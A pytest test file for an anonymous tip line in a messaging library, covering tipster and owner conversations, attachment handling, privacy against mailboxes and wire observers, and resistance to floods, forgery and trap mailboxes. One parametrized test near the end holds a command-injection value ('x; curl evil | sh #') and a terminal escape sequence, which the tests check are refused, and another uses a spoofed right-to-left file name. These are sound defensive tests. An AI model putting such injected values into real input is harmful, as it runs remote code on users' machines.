"""A line for tips: strangers with one-time keys, words to come back with, and what each of those between sees."""

from __future__ import annotations

import asyncio
import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from post_office import PostOffice, known_identity, post_office

from dtp import Identity
from dtp.cli.tip_lines import stored_names
from dtp.errors import DtpError
from dtp.messaging.cards import ContactCard
from dtp.messaging.ends.device import LocalDevice
from dtp.messaging.ends.envelope import SIZES, seal_envelope
from dtp.messaging.ends.peer import RemoteDevice
from dtp.messaging.errors import EnvelopeBroken, KeysForged, MessageTooLong
from dtp.messaging.mailbox import MailboxClient, MailboxLimits, SqliteMailbox, Tray
from dtp.messaging.mailbox.pool import connect_plainly
from dtp.messaging.person.attachments import AttachmentTooLarge
from dtp.messaging.person.card_sources import DhtCards
from dtp.messaging.person.delivery import now_ms
from dtp.messaging.tips.errors import LetterForged, LineUnreached, TipError, WordsWrong
from dtp.messaging.tips.finding import find_line
from dtp.messaging.tips.letter import ReplyTo, TipLetter
from dtp.messaging.tips.line import TipLine
from dtp.messaging.tips.line_store import KEEP_MS, RENEW_MS, LineStore
from dtp.messaging.tips.tipster import Tipster
from dtp.messaging.tips.words import TipWords
from dtp.peers.dht import Dht

LINE = known_identity("line")
WORDS = TipWords(bytes(range(16)))


def run(test, tmp_path: Path, name: str) -> None:
    post_office(test, tmp_path, f"tips-{name}")


def line(office: PostOffice, *boxes: str, **options) -> TipLine:
    made = {"stamp_bits": 4, "identity": LINE, "store": office.folder / "line.db", **options}
    return TipLine(mailboxes=boxes or None, name="The Line" if boxes else None, **made)


async def opened(office: PostOffice, *boxes: str, **options) -> TipLine:
    made = await office.enter(line(office, *boxes, **options))
    await made.publish()
    return made


# ---- a conversation --------------------------------------------------------------------------------------------


def test_a_stranger_writes_is_answered_and_comes_back_from_anywhere_with_the_words(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        card = ContactCard.parse_text(owner.card.text)
        async with Tipster(card, WORDS) as tipster:
            await tipster.send("the bridge is cracked")
        assert await owner.collect() == 1
        (tip,) = await owner.tips()
        assert (tip.key, tip.unread) == (WORDS.key.id.key, 1)
        await owner.answer(tip, "which bridge?", lock="0x" + "5a" * 32)
        await owner.mark_read(tip)
        for _ in range(2):  # what was read stays, for whoever has the words
            async with Tipster(card, TipWords.parse(WORDS.text.upper())) as again:
                seen = await again.read()
                assert [(each.text, each.lock) for each in seen.letters] == [
                    ("which bridge?", "0x" + "5a" * 32)
                ]
                assert seen.complete
        async with Tipster(card, WORDS) as again:
            await again.send("the one at the mill")
        assert await owner.collect() == 1
        assert await owner.collect() == 0
        (tip,) = await owner.tips()
        told = [(each.own, each.letter.text) for each in await owner.letters(tip)]
        assert told == [
            (False, "the bridge is cracked"),
            (True, "which bridge?"),
            (False, "the one at the mill"),
        ]
        assert tip.unread == 1
        await owner.forget(tip)
        assert await owner.tips() == []

    run(test, tmp_path, "conversation")


def test_a_line_is_the_same_after_it_was_closed_and_takes_what_came_meanwhile(tmp_path):
    async def test(office: PostOffice) -> None:
        async with line(office, await office.open()) as owner:
            await owner.publish()
            card = owner.card
        async with Tipster(card, WORDS) as tipster:
            await tipster.send("while nobody was there")
        async with line(office) as owner:
            assert owner.card == card
            await owner.publish()
            assert await owner.collect() == 1
        with pytest.raises(TipError):
            async with line(office, identity=Identity.generate()):
                pass

    run(test, tmp_path, "closed")


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("Screenshot 8.41\u202fPM.mov", "Screenshot 8.41 PM.mov"),
        ("\u202egpj.mov", "_gpj.mov"),
        ("a\udcff", "a_"),
    ],
)
def test_a_file_that_is_sent_as_it_is_comes_whatever_its_name_has(tmp_path, name, told):
    """Who had written was told that it was sent, and the line passed it over."""

    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        (tmp_path / name).write_bytes(b"a film")
        async with Tipster(owner.card, WORDS) as tipster:
            await tipster.send("look", attachments=[tmp_path / name], as_is=True)
        assert await owner.collect() == 1
        (tip,) = await owner.tips()
        (kept,) = await owner.letters(tip)
        assert [each.name for each in owner.attachments(kept.letter)] == [told]

    run(test, tmp_path, f"name-{len(name)}")


def test_more_files_than_a_letter_has_are_refused_before_any_is_sent(tmp_path):
    """The line passed the letter over."""

    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        (tmp_path / "film").write_bytes(b"a film")
        async with Tipster(owner.card, WORDS) as tipster:
            with pytest.raises(TipError, match="64 files"):
                await tipster.send("look", attachments=[tmp_path / "film"] * 65, as_is=True)
        assert not any(box.counters["put_piece"] for box in office.mailboxes.values())

    run(test, tmp_path, "many-files")


def test_attachments_come_without_names_and_an_owner_fetches_no_more_than_it_likes(tmp_path):
    from PIL import Image

    picture = tmp_path / "holiday of Eve.jpg"
    exif = Image.Exif()
    exif[0x010F] = "EVES CAMERA"
    Image.effect_noise((300, 300), 99).save(picture, exif=exif)
    assert b"EVES CAMERA" in picture.read_bytes()

    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        async with Tipster(owner.card, WORDS) as tipster:
            await tipster.send("look", attachments=[picture])
        await owner.collect()
        (tip,) = await owner.tips()
        (kept,) = await owner.letters(tip)
        (file,) = owner.attachments(kept.letter)
        assert file.name == "file-1.jpg"
        with pytest.raises(AttachmentTooLarge):
            await file.save(tmp_path, limit=100)
        saved = await file.save(tmp_path)
        assert b"EVES" not in saved.read_bytes()
        (note := tmp_path / "note.txt").write_text("and this is ours\n")
        await owner.answer(tip, "thank you", attachments=[note])
        async with Tipster(owner.card, WORDS) as tipster:
            (letter,) = (await tipster.read()).letters
            (file,) = tipster.attachments(letter)
            assert (await file.save(tmp_path)).read_text() == "and this is ours\n"

    run(test, tmp_path, "files")


def test_a_line_is_found_in_the_dht_by_its_name(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        seed = await office.enter(Dht(Identity.generate(), bind=("127.0.0.1", 0)))
        dht = await office.enter(Dht(LINE, bind=("127.0.0.1", 0), bootstrap=[seed.endpoint]))
        await DhtCards(dht).publish_card(owner.card)
        assert (await find_line(LINE.id, bootstrap=[seed.endpoint])).card.person == LINE.id.key
        with pytest.raises(LineUnreached):
            await find_line(Identity.generate().id, bootstrap=[seed.endpoint])

    run(test, tmp_path, "dht")


# ---- who sees what: docs/tips.md -------------------------------------------------------------------------------


def _everything_in(database: Path) -> bytes:
    with sqlite3.connect(database) as db:
        tables = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        cells = [cell for each in tables for row in db.execute(f"SELECT * FROM {each}") for cell in row]
    return b"|".join(each if isinstance(each, bytes) else str(each).encode() for each in cells)


def test_the_mailbox_has_neither_the_tips_key_nor_what_it_says_and_sizes_tell_little(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        envelopes = {}
        for text in ("no", "no, and never again " * 100):
            async with Tipster(owner.card, WORDS) as tipster:
                await tipster.send(text)
            async with await _client(office, LINE) as client:
                envelopes[text] = (await client.fetch_envelopes(Tray.STRANGERS))[-1].envelope
        assert {len(each) for each in envelopes.values()} == {4096}
        await owner.collect()
        await owner.answer((await owner.tips())[0], "a word that is nowhere else")
        found = _everything_in(tmp_path / "box.sqlite")
        for secret in (
            WORDS.key.id.key,
            WORDS.key.static_public,
            b"nowhere else",
            b"never again",
            WORDS.entropy,
        ):
            assert secret not in found
        # What it does have: a device that nothing else goes by, and who is written to.
        assert WORDS.device.id.key in found
        assert LINE.id.key in found

    run(test, tmp_path, "sees")


def test_who_looks_at_the_wire_sees_no_key_of_the_tip_and_no_text(tmp_path):
    seen = bytearray()

    async def pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(65_536):
            seen.extend(data)
            writer.write(data)
            await writer.drain()
        writer.close()

    async def test(office: PostOffice) -> None:
        import dtp
        from dtp.messaging.mailbox import MAILBOX_SERVICE, Mailbox

        box = Mailbox(SqliteMailbox())
        identity = Identity.generate()
        async with await dtp.listen(
            "tcp://127.0.0.1:0", {MAILBOX_SERVICE: box.serve}, identity=identity
        ) as server:
            port = int(server.urls[0].rsplit(":", 1)[1])

            async def between(reader, writer) -> None:
                inner = await asyncio.open_connection("127.0.0.1", port)
                async with asyncio.TaskGroup() as tasks:
                    tasks.create_task(pipe(reader, inner[1]))
                    tasks.create_task(pipe(inner[0], writer))

            observer = await asyncio.start_server(between, "127.0.0.1", 0)
            place = f"tcp://127.0.0.1:{observer.sockets[0].getsockname()[1]}"
            async with line(office, str(dtp.Address.direct(identity.id, place, MAILBOX_SERVICE))) as owner:
                await owner.publish()
                async with Tipster(owner.card, WORDS) as tipster:
                    await tipster.send("plain words")
                await owner.collect()
                assert (await owner.tips())[0].unread == 1
            observer.close()
        await box.stop()

    run(test, tmp_path, "wire")
    assert len(seen) > 2000
    for secret in (b"plain words", WORDS.key.id.key, WORDS.device.id.key, LINE.id.key):
        assert secret not in bytes(seen)


class _Closing:
    def __init__(self, client: MailboxClient) -> None:
        self.client = client

    async def __aenter__(self) -> MailboxClient:
        return self.client

    async def __aexit__(self, *_: object) -> None:
        await self.client.close()


async def _client(office: PostOffice, identity: Identity | None = None) -> _Closing:
    address = str(office.listeners["box"].address("dtp.mailbox"))
    return _Closing(await connect_plainly(address, identity))


# ---- attackers -------------------------------------------------------------------------------------------------


def test_a_flood_of_first_contacts_costs_work_and_fills_nothing_but_a_tray(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open(limits=MailboxLimits(strangers=5)))
        for number in range(5):
            async with Tipster(owner.card) as flood:
                await flood.send(f"spam {number}")
        async with Tipster(owner.card, WORDS) as tipster:
            with pytest.raises(LineUnreached, match="no room for more"):
                await tipster.send("an honest one")
            assert await owner.collect() == 5  # and there is room again
            await tipster.send("an honest one")
        assert await owner.collect() == 1
        async with await _client(office) as client:  # a letter without the work
            with pytest.raises(DtpError, match="stamp"):
                await client.deposit_envelope(
                    LINE.id.key, seal_envelope(b"x", LINE.static_public), seconds=60
                )

    run(test, tmp_path, "flood")


def test_where_no_more_tips_are_kept_they_stay_in_the_mailbox_until_some_are_forgotten(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        owner.store.most_tips = 2
        for text in "abc":
            async with Tipster(owner.card) as tipster:
                await tipster.send(text)
        assert await owner.collect() == 2
        assert await owner.collect() == 0
        await owner.forget((await owner.tips())[0])
        assert await owner.collect() == 1

    run(test, tmp_path, "full")


def test_letters_by_others_to_others_replayed_or_broken_change_nothing(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        async with Tipster(owner.card, WORDS) as tipster:
            await tipster.send("once")
        async with await _client(office, LINE) as client:
            (genuine,) = await client.fetch_envelopes(Tray.STRANGERS)
        assert await owner.collect() == 1
        newest = owner.store.sealing_keys(LINE, 0)[0][1]
        other = Identity.generate()
        reply = ReplyTo(other.id.key, bytes(16), other.static_public)
        said = TipLetter(WORDS.key.id.key, LINE.id.key, "forged", reply_to=reply)
        passed_on = TipLetter(other.id.key, other.id.key, "to another line", reply_to=reply)
        async with await _client(office) as client:
            for envelope in (
                genuine.envelope,
                said.seal(other, newest.static_public),  # by another key than it says
                passed_on.seal(other, newest.static_public),
                seal_envelope(b"no letter", newest.static_public),
                said.seal(WORDS.key, other.static_public),  # nobody opens it
            ):
                await client.deposit_with_work(LINE.id.key, envelope, seconds=600)
        assert await owner.collect() == 0
        (tip,) = await owner.tips()
        assert tip.reply_to is not None
        assert tip.reply_to.device == WORDS.device.id.key
        async with await _client(office, LINE) as client:
            assert (await client.get_status()).count == 0  # and nothing of it is left

    run(test, tmp_path, "forged")


def test_a_tip_leads_its_reader_to_no_mailbox_that_was_never_the_lines(tmp_path):
    """Whoever runs it would learn the address of who answers, or opens a file."""

    async def test(office: PostOffice) -> None:
        box, other, trap = await office.open("box"), await office.open("other"), await office.open("trap")
        owner = await opened(office, box)
        async with Tipster(owner.card, WORDS) as tipster:
            reply = replace(tipster.reply_to, mailboxes=(trap,))
        file = ["map.png", 9, bytes(32), [bytes(32)], [trap, box]]
        letter = TipLetter(WORDS.key.id.key, LINE.id.key, "see the map", (file,), reply_to=reply)
        newest = owner.store.sealing_keys(LINE, 0)[0][1]
        async with await _client(office) as client:
            await client.deposit_with_work(
                LINE.id.key, letter.seal(WORDS.key, newest.static_public), seconds=600
            )
        assert await owner.collect() == 1
        (tip,) = await owner.tips()
        with pytest.raises(TipError, match="never the line's"):
            await owner.answer(tip, "which map?")
        (kept,) = await owner.letters(tip)
        (attachment,) = owner.attachments(kept.letter)
        assert attachment.mailboxes == (box,)
        assert not office.mailboxes["trap"].counters
        await owner.move([other])  # the line's, as long as tips name them that came before
        assert owner.attachments(kept.letter)[0].mailboxes == (box,)
        async with Tipster(owner.card, WORDS) as tipster:
            await owner.publish()
            await tipster.send("here is another one")
        await owner.collect()
        await owner.answer((await owner.tips())[0], "thank you")
        assert await owner.send_waiting() == 0

    run(test, tmp_path, "trap")


def test_whoever_learns_where_answers_go_can_put_no_words_into_the_owners_mouth(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())
        async with Tipster(owner.card, WORDS) as tipster:
            await tipster.send("a tip")
            to, liar = tipster.reply_to, Identity.generate()
            for letter, key in (
                (TipLetter(liar.id.key, WORDS.key.id.key, "meet me at the dock"), liar),
                (TipLetter(LINE.id.key, WORDS.key.id.key, "meet me at the dock"), liar),
            ):
                async with await _client(office) as client:
                    envelope = letter.seal(key, to.sealing)
                    await client.deposit_envelope(to.device, envelope, seconds=60, access=to.access)
            assert (await tipster.read()).letters == []

    run(test, tmp_path, "mouth")


def test_other_words_find_nothing_and_a_mailbox_that_is_away_is_said(tmp_path):
    async def test(office: PostOffice) -> None:
        boxes = [await office.open("box"), await office.open("other")]
        owner = await opened(office, *boxes)
        async with Tipster(owner.card) as nobody:
            with pytest.raises(TipError, match="another line"):
                await nobody.read()
        await office.shut("box")
        async with Tipster(owner.card, WORDS) as tipster:
            await tipster.send("by the second mailbox")
            await owner.collect()
            await owner.answer((await owner.tips())[0], "got it")
            seen = await tipster.read()
            assert [each.text for each in seen.letters] == ["got it"]
            assert not seen.complete
            await office.shut("other")
            for ask in (tipster.read, lambda: tipster.send("x"), owner.collect, owner.publish):
                with pytest.raises(LineUnreached):
                    await ask()
            (tip,) = await owner.tips()
            with pytest.raises(LineUnreached):
                await owner.answer(tip, "kept until a mailbox is back")
            assert await owner.send_waiting() == 1
            await office.open("other")
            assert await owner.send_waiting() == 0
            assert [each.text for each in (await tipster.read()).letters] == [
                "got it",
                "kept until a mailbox is back",
            ]
            await tipster.forget()

    run(test, tmp_path, "away")


def test_a_mailbox_that_gives_older_or_others_keys_gets_no_letter(tmp_path):
    async def test(office: PostOffice) -> None:
        owner = await opened(office, await office.open())

        async def lying(address: str, identity: Identity | None) -> MailboxClient:
            client = await connect_plainly(address, identity)
            ask = client.get_keys

            async def get_keys(device: bytes, now_ms: int):
                return await ask(device, now_ms + 100 * 86_400_000)  # as it gives them 100 days later

            client.get_keys = get_keys
            return client

        async with Tipster(owner.card, WORDS, connect=lying) as tipster:
            with pytest.raises(LineUnreached, match="expired"):
                await tipster.send("x")

    run(test, tmp_path, "keys")


def test_messengers_are_told_that_a_line_takes_other_letters(tmp_path):
    async def test(office: PostOffice) -> None:
        address = await office.open()
        await opened(office, address)
        async with await _client(office) as client:
            bundle = await client.get_keys(LINE.id.key, now_ms())
        with pytest.raises(KeysForged, match="dtp tip send"):
            RemoteDevice(LINE.id.key).begin_session(
                LocalDevice.create_instance(Identity.generate(), bytes(16), 0), bundle
            )

    run(test, tmp_path, "messenger")


# ---- values ----------------------------------------------------------------------------------------------------


def test_a_stolen_line_opens_no_tip_from_before_its_keys_were_replaced():
    store, letter = LineStore(":memory:", bytes(32)), TipLetter(WORDS.key.id.key, LINE.id.key, "old")
    ((_, first),) = store.sealing_keys(LINE, 0 + RENEW_MS)
    envelope = letter.seal(WORDS.key, first.static_public)
    keys = store.sealing_keys(LINE, 3 * RENEW_MS)
    assert [TipLetter.open(envelope, keys[-1][1], LINE.id.key).text] == ["old"]
    for week in (4, 5):
        keys = store.sealing_keys(LINE, KEEP_MS + week * RENEW_MS)
    later = [LINE, *(each for _, each in keys)]
    for each in later:
        with pytest.raises(EnvelopeBroken):
            TipLetter.open(envelope, each, LINE.id.key)
    store.close()


def test_tips_that_come_at_once_are_listed_as_they_came() -> None:
    """They were listed by their one-time keys."""
    store = LineStore(":memory:", bytes(32))
    senders = [known_identity(each).id.key for each in ("one", "two", "three", "four", "five")]
    for sender in senders:
        store.add_letter(TipLetter(sender, LINE.id.key, "at once"), 1)
    assert [each.key for each in store.list_tips()] == senders != sorted(senders)
    store.close()


def test_words_have_a_checksum_and_their_keys_are_all_different():
    assert TipWords.parse(WORDS.text) == WORDS
    words = WORDS.text.split()
    for wrong in (words[:-1], [*words, "able"], ["xyzzy", *words[1:]], [words[1], words[0], *words[2:]]):
        with pytest.raises(WordsWrong):
            TipWords.parse(" ".join(wrong))
    keys = {WORDS.key.id.key, WORDS.device.id.key, WORDS.key.static_public, WORDS.device.static_public}
    assert len(keys) == 4
    assert not keys & {TipWords(bytes(16)).key.id.key, TipWords(bytes(16)).device.id.key}
    assert WORDS.text not in repr(WORDS)
    assert WORDS.entropy.hex() not in repr(WORDS)


@given(st.binary(max_size=200), st.integers(0, 400))
def test_a_letter_that_was_changed_anywhere_is_refused(noise: bytes, at: int):
    letter = TipLetter(WORDS.key.id.key, LINE.id.key, "text")
    signed = letter.sign(WORDS.key)
    assert TipLetter.parse(signed, LINE.id.key) == letter
    changed = signed[:at] + noise + signed[at + len(noise) :]
    if changed != signed:
        with pytest.raises(LetterForged):
            TipLetter.parse(changed, LINE.id.key)


def test_a_text_that_fits_no_letter_is_refused_and_padded_ones_open_again():
    letter = TipLetter(WORDS.key.id.key, LINE.id.key, "short")
    assert TipLetter.from_padded(letter.to_padded(WORDS.key), LINE.id.key) == letter
    assert len(letter.to_padded(WORDS.key)) in SIZES
    with pytest.raises(EnvelopeBroken):
        TipLetter.from_padded(letter.to_padded(WORDS.key) + b"x", LINE.id.key)
    with pytest.raises(MessageTooLong):
        replace(letter, text="x" * 70_000).sign(WORDS.key)


@pytest.mark.parametrize(
    "lock",
    ["x; curl evil | sh #".ljust(66), "\x1b[2J".ljust(66, "0"), "0x" + "5A" * 32, "0x" + "5a" * 31, "0x5a\n"],
)
def test_a_lock_that_is_none_isnt_shown_in_a_command(lock: str) -> None:
    """Whoever gave the tip is told to run it."""
    letter = TipLetter(LINE.id.key, WORDS.key.id.key, "thank you", lock=lock)
    with pytest.raises(LetterForged):
        TipLetter.parse(letter.sign(LINE), WORDS.key.id.key)
    good = TipLetter(LINE.id.key, WORDS.key.id.key, "thank you", lock="0x" + "5a" * 32)
    assert TipLetter.parse(good.sign(LINE), WORDS.key.id.key) == good


def test_files_of_one_letter_that_are_called_alike_are_kept_both() -> None:
    letter = TipLetter(LINE.id.key, WORDS.key.id.key, "two scans")
    names = stored_names(letter, ["scan.jpg", "scan.jpg", "map.png", "scan.jpg"])
    assert len(set(names)) == 4
    assert [each.removeprefix(letter.nonce.hex()[:12]) for each in names] == [
        "-scan.jpg", "-2-scan.jpg", "-map.png", "-4-scan.jpg"
    ]  # fmt: skip
